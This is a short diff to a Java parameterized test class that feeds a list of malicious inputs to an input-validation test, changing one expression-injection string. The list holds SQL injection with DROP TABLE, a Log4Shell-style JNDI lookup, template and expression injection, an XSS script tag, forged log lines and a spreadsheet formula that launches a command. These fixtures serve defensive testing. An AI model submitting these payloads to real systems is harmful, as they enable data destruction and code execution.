@@ -243,7 +243,7 @@ class BadInputTests {
 	}
 
 	@ParameterizedTest
-	@ValueSource(strings = { "'; DROP TABLE tickets; --", "\" OR 1=1 --", "${incidentLifecycle.isMajor('x')}",
+	@ValueSource(strings = { "'; DROP TABLE tickets; --", "\" OR 1=1 --", "${incident.isMajor('x')}",
 			"#{execution.setVariable('a', 1)}", "${1+1}", "=1+1", "if true then \"high\" else null", "%s %n {0} {}",
 			"first\r\n2026-11-24 ERROR forged log line", "${jndi:ldap://x/y}", "<script>alert(1)</script>",
 			"\\u0000 \\ % _", "🦄 e\u0301 \u202Eabc", "=cmd|' /C calc'!A0" })
